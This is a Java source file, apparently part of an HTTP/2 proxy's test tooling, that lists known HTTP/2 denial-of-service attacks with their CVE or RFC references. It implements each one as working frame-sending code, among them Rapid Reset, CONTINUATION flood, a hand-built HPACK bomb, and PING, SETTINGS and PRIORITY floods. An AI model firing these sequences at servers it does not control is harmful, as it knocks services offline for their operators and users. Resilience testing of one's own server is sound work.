package io.sluice.proxy;

import java.util.Arrays;

/** The known attacks on servers of HTTP/2, one step at a time. */
enum Http2Attack {
    RAPID_RESET("CVE-2023-44487") {
        @Override
        void step(Http2Client client, int i) {
            client.reset(client.chat(CHAT), 8);
        }
    },
    MADE_RESET_BY_CREDIT_OF_0("CVE-2025-8671") {
        @Override
        void step(Http2Client client, int i) {
            client.credit(client.open(false, "POST", Requests.CHAT), 0);
        }
    },
    MADE_RESET_BY_TOO_MUCH_CREDIT("CVE-2025-8671") {
        @Override
        void step(Http2Client client, int i) {
            client.credit(client.open(false, "POST", Requests.CHAT), Integer.MAX_VALUE);
        }
    },
    MADE_RESET_BY_A_SHORT_PRIORITY("CVE-2025-8671") {
        @Override
        void step(Http2Client client, int i) {
            int stream = client.open(false, "POST", Requests.CHAT);
            client.wire().frame(Frame.PRIORITY, 0, stream, new byte[4]);
        }
    },
    MADE_RESET_BY_CONTENT_BEHIND_THE_END("CVE-2025-8671") {
        @Override
        void step(Http2Client client, int i) {
            int stream = client.open(true, "GET", "/v1/models");
            client.wire().frame(Frame.DATA, 0, stream, new byte[1]);
        }
    },
    CONTINUATION_FLOOD("CVE-2024-27316") {
        @Override
        void step(Http2Client client, int i) {
            if (i == 0) {
                client.wire().frame(Frame.HEADERS, 0, 1, new byte[0]);
            }
            client.wire().frame(Frame.CONTINUATION, 0, 1, new byte[] {(byte) 0x82});
        }
    },
    ENDLESS_HEAD("CVE-2024-27316") {
        @Override
        void step(Http2Client client, int i) {
            byte[] fields = client.wire().block("x" + i, "y".repeat(16_000));
            int type = i == 0 ? Frame.HEADERS : Frame.CONTINUATION;
            client.wire().frame(type, 0, 1, Arrays.copyOf(fields, 16_000));
        }
    },
    HPACK_BOMB("CVE-2016-6581") {
        @Override
        void step(Http2Client client, int i) {
            byte[] bomb = new byte[4000 + 12_000];
            bomb[0] = 0x40; // into the table: the name x with 3,990 bytes
            bomb[1] = 1;
            bomb[2] = 'x';
            bomb[3] = 0x7f;
            bomb[4] = (byte) (0x80 | 3990 - 127 & 0x7f);
            bomb[5] = (byte) (3990 - 127 >> 7);
            Arrays.fill(bomb, 6, 6 + 3990, (byte) 'y');
            Arrays.fill(bomb, 6 + 3990, bomb.length, (byte) 0xbe); // and 12,004 times from it
            client.wire().frame(Frame.HEADERS, 5, 1 + 2 * i, bomb);
        }
    },
    COOKIE_CRUMBS("CVE-2026-49975") {
        @Override
        void step(Http2Client client, int i) {
            byte[] crumbs = new byte[16_000];
            System.arraycopy(new byte[] {0x60, 1, 'c'}, 0, crumbs, 0, 3); // cookie: c
            Arrays.fill(crumbs, 3, crumbs.length, (byte) 0xbe);
            client.wire().frame(Frame.HEADERS, 5, 1 + 2 * i, crumbs);
        }
    },
    PINGS("CVE-2019-9512") {
        @Override
        void step(Http2Client client, int i) {
            client.wire().frame(Frame.PING, 0, 0, new byte[8]);
        }
    },
    SETTINGS("CVE-2019-9515") {
        @Override
        void step(Http2Client client, int i) {
            client.wire().frame(Frame.SETTINGS, 0, 0, new byte[0]);
        }
    },
    MANY_SETTINGS_IN_A_FRAME("CVE-2020-11080") {
        @Override
        void step(Http2Client client, int i) {
            client.wire().frame(Frame.SETTINGS, 0, 0, new byte[6 * 2700]);
        }
    },
    PRIORITIES("CVE-2019-9513") {
        @Override
        void step(Http2Client client, int i) {
            client.wire().frame(Frame.PRIORITY, 0, 1 + 2 * i, new byte[5]);
        }
    },
    CREDITS("CVE-2019-9511") {
        @Override
        void step(Http2Client client, int i) {
            client.credit(0, 1);
        }
    },
    EMPTY_CONTENT("CVE-2019-9518") {
        @Override
        void step(Http2Client client, int i) {
            int stream = i == 0 ? client.open(false, "POST", Requests.CHAT) : 1;
            client.wire().frame(Frame.DATA, 0, stream, new byte[0]);
        }
    },
    PADDING("RFC 9113 §10.5") {
        @Override
        void step(Http2Client client, int i) {
            int stream = i == 0 ? client.open(false, "POST", Requests.CHAT) : 1;
            byte[] padded = new byte[256];
            padded[0] = (byte) 255;
            client.wire().frame(Frame.DATA, Frame.PADDED, stream, padded);
        }
    },
    UNKNOWN_FRAMES("RFC 9113 §5.5") {
        @Override
        void step(Http2Client client, int i) {
            client.wire().frame(0x42, 0, 0, new byte[0]);
        }
    },
    GOODBYES("RFC 9113 §6.8") {
        @Override
        void step(Http2Client client, int i) {
            if (i == 0) {
                client.open(false, "POST", Requests.CHAT);
            }
            client.wire().frame(Frame.GOAWAY, 0, 0, new byte[8]);
        }
    },
    NO_CREDIT("CVE-2019-9511, CVE-2026-49975") {
        @Override
        byte[][] settings() {
            return new byte[][] {Frame.setting(4, 0)};
        }

        @Override
        void step(Http2Client client, int i) {
            hold(i, () -> client.chat("{\"model\":\"long\"}"));
        }
    },
    HEADS_WITHOUT_END("VU#421644") {
        @Override
        void step(Http2Client client, int i) {
            hold(i == 0 ? 0 : 1000, () -> client.wire().frame(Frame.HEADERS, 0, 1, new byte[0]));
        }
    },
    REQUESTS_WITHOUT_END("slow bodies") {
        @Override
        void step(Http2Client client, int i) {
            hold(
                    i,
                    () ->
                            client.open(
                                    false,
                                    "POST",
                                    Requests.CHAT,
                                    "content-type",
                                    "application/json"));
        }
    };

    private static final String CHAT = "{\"model\":\"held\"}";
    private static final int STREAMS = 100;
    private static final long HELD_NANOS = 50_000_000;

    private final String known;

    Http2Attack(String known) {
        this.known = known;
    }

    /** Under which name it is known. */
    String known() {
        return known;
    }

    byte[][] settings() {
        return new byte[0][];
    }

    /** Does it once more, or throws when the connection is closed. */
    abstract void step(Http2Client client, int i);

    /** As many as there may be, and then nothing. */
    private static void hold(int i, Runnable begin) {
        if (i < STREAMS) {
            begin.run();
        } else {
            java.util.concurrent.locks.LockSupport.parkNanos(HELD_NANOS);
        }
    }
}
